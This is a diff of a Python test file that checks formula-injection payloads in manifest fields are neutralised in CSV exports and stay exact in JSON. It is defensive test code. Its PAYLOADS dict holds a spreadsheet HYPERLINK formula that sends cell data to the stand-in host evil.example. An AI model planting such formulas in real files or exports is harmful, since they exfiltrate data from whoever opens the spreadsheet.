@@ -5,25 +5,12 @@ from __future__ import annotations
 
 import csv
 import io
-from collections.abc import Callable
-from typing import Any
 
 import orjson
 import pytest
 
 from builder.render.data import board_files, to_csv
-from hostile.support import BETA, edit_manifest, run
-
-
-def _set(path: str, value: Any) -> Callable[[dict], None]:
-    def mutate(obj: dict) -> None:
-        *parents, last = path.split(".")
-        for p in parents:
-            obj = obj[p]
-        obj[last] = value
-
-    return mutate
-
+from hostile.support import BETA, edit_manifest, run, set_field
 
 PAYLOADS = {
     "equals-hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -43,7 +30,7 @@ def _csv(data: bytes) -> list[dict[str, str]]:
 @pytest.mark.parametrize("field,column", [("model.name", "model"), ("model.family", "family"), ("judge", "judge"), ("config.reasoning_effort", "reasoning_effort")])
 def test_formula_text_is_neutralised_in_csv_and_exact_in_json(inst, name: str, field: str, column: str) -> None:
     payload = PAYLOADS[name]
-    edit_manifest(inst.bundles[BETA], _set(field, payload), inst.lab_keys["beta"])
+    edit_manifest(inst.bundles[BETA], set_field(field, payload), inst.lab_keys["beta"])
     report = run(inst)
     if report.rejections:  # a payload display cleaning refuses (e.g. a leading space) is also safe
         assert [r.reason for r in report.rejections] == ["bad-display-name"]
